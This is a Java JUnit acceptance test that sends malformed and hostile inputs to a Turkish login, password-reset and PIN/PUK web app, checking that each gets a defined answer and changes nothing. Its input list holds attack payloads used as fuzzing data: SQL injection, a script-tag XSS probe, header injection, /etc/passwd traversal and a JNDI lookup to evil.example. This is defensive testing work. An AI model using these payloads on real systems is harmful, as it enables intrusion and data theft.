package org.muhurdar.acceptance.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.muhurdar.acceptance.visitor.HttpVisitor;
import org.muhurdar.acceptance.visitor.ScreenWords;
import org.muhurdar.acceptance.visitor.Sheet;

/** Forms of our own with fields that nobody types: an answer in words, never a fault. */
@ExtendWith(Fortress.Gate.class)
class OddFieldsTest {

  private static final ScreenWords WORDS = ScreenWords.TURKISH;

  /** As they stand in a form, encoded: NUL, broken surrogates, markup, SQL, path, long, empty. */
  private static final List<String> ODD =
      List.of(
          "",
          "%00",
          "a%00b",
          "%0d%0aSet-Cookie:%20a=b",
          "%EF%BF%BF",
          "%F0%9F%98%80",
          "%E2%80%AE",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "%27%20or%20%271%27=%271",
          "..%2F..%2Fetc%2Fpasswd",
          "%24%7Bjndi:ldap://evil.example/a%7D",
          "%7B0%7D",
          "%D9%A1%D9%A2%D9%A3",
          "a".repeat(40_000),
          "%F0%9F%98%80".repeat(2_000));

  private static final List<String> FIELDS =
      List.of(
          "id",
          "word",
          "picture",
          "check",
          "is",
          "yazi",
          "code",
          "digits",
          "answer",
          "token",
          "t",
          "kart",
          "understood",
          "back",
          "new-word",
          "neden",
          "d");

  private static final List<String> STRANGERS_FORMS =
      List.of(
          "/sifreli-giris",
          "/sifreli-giris/yenile",
          "/insan-denetimi/hesap",
          "/insan-denetimi/resim",
          "/insan-denetimi/ses",
          "/insan-denetimi/bekleme",
          "/guvenlik-sozcugumu-unuttum",
          "/guvenlik-sozcugu/baglanti",
          "/guvenlik-sozcugu/yeni",
          "/ben-yapmadim",
          "/sms-onay-kodu",
          "/oturum/uzat");

  private static final List<String> HOLDERS_FORMS =
      List.of(
          "/pin-puk-bilgisi/goster",
          "/pin-puk-bilgisi/sil",
          "/pin-puk-bilgisi/sms-onay-kodu",
          "/oturum/uzat");

  private static final List<String> PAGES =
      List.of(
          "/kullanici-dogrulama?is=",
          "/sifreli-giris?yazi=",
          "/guvenlik-sozcugu/baglanti?t=",
          "/ben-yapmadim?t=",
          "/pin-puk-bilgisi/sil?kart=",
          "/pin-puk-bilgisi/sms-onay?is=",
          "/islem-belgesi/",
          "/cikis-yapildi?neden=");

  private final Fortress fortress;

  OddFieldsTest(Fortress fortress) {
    this.fortress = fortress;
  }

  private static HttpResponse<String> post(HttpVisitor visitor, String path, String body)
      throws IOException {
    return visitor.ask(
        path,
        HttpRequest.newBuilder()
            .header("Content-Type", "application/x-www-form-urlencoded")
            .POST(HttpRequest.BodyPublishers.ofString(body)));
  }

  private static void isDefined(String what, HttpResponse<String> answer) {
    assertThat(answer.statusCode()).as(what).isIn(200, 303, 400, 403, 404, 405, 413, 422, 429, 503);
    Shield.guards(what, answer.headers().map());
    assertThat(answer.body())
        .as(what)
        .doesNotContain("<script>alert", "Exception", "\tat ", "\u0000");
    assertThat(answer.headers().map()).as(what).doesNotContainKey("a");
  }

  private static String encoded(String csrf) {
    return java.net.URLEncoder.encode(csrf, java.nio.charset.StandardCharsets.UTF_8);
  }

  @Test
  void odd_fields_from_strangers_are_answered_in_words_and_let_nobody_in() throws IOException {
    HttpVisitor visitor = fortress.visitor();
    Sheet page = visitor.open("/tr/guvenlik-sozcugumu-unuttum");
    String csrf = encoded(page.form(WORDS.sendLink()).fields().getOrDefault("_csrf", ""));
    long sessions = fortress.rows().getOrDefault("sign_in", -1L);
    long messages = fortress.rows().getOrDefault("message", -1L);
    for (String form : STRANGERS_FORMS) {
      for (String odd : ODD) {
        StringBuilder body = new StringBuilder("_csrf=" + csrf);
        for (String field : FIELDS) {
          if (body.length() + odd.length() < 60_000) {
            body.append('&').append(field).append('=').append(odd);
          }
        }
        String what = form + " " + odd.substring(0, Math.min(20, odd.length()));

        isDefined(what, post(visitor, "/tr" + form, body.toString()));
      }
    }
    assertThat(visitor.cookies()).doesNotContainKeys("__Host-session", "__Host-check");
    assertThat(fortress.rows())
        .containsEntry("sign_in", sessions)
        .containsEntry("message", messages);
  }

  @Test
  void odd_fields_from_holders_are_answered_in_words_and_change_nothing() throws IOException {
    HttpVisitor visitor = fortress.signedIn();
    Sheet menu = visitor.open("/tr/menu");
    String csrf = encoded(menu.form(WORDS.signOut()).fields().getOrDefault("_csrf", ""));
    Map<String, Long> before = fortress.rows();
    for (String form : HOLDERS_FORMS) {
      for (String odd : ODD) {
        String body =
            "_csrf=" + csrf + "&kart=" + odd + "&code=" + odd + "&understood=evet&back=/menu";

        isDefined(form + " " + odd.length(), post(visitor, "/tr" + form, body));
      }
    }
    assertThat(fortress.rows()).isEqualTo(before);
    assertThat(visitor.open("/tr/menu").heading()).isEqualTo(menu.heading());
  }

  @Test
  void odd_words_in_an_address_are_answered_in_words() throws IOException {
    Map<String, Long> before;
    for (HttpVisitor visitor : List.of(fortress.visitor(), fortress.signedIn())) {
      before = fortress.rows();
      for (String path : PAGES) {
        for (String odd : ODD) {
          if (odd.length() < 4_000) {
            for (String language : List.of("/tr", "/en")) {
              isDefined(
                  path + odd, visitor.ask(language + path + odd, HttpRequest.newBuilder().GET()));
            }
          }
        }
      }
      assertThat(fortress.rows()).isEqualTo(before);
    }
  }

  @Test
  void the_same_field_many_times_is_read_as_one_text_or_refused() throws IOException {
    HttpVisitor visitor = fortress.visitor();
    Sheet page = visitor.open("/tr/sifreli-giris");
    String csrf = encoded(page.form(WORDS.signIn()).fields().getOrDefault("_csrf", ""));

    HttpResponse<String> answer =
        post(visitor, "/tr/sifreli-giris", "_csrf=" + csrf + "&id=1&id=2&word=a&word=b&is=x&is=y");

    isDefined("twice", answer);
    assertThat(answer.statusCode()).isEqualTo(422);
  }
}
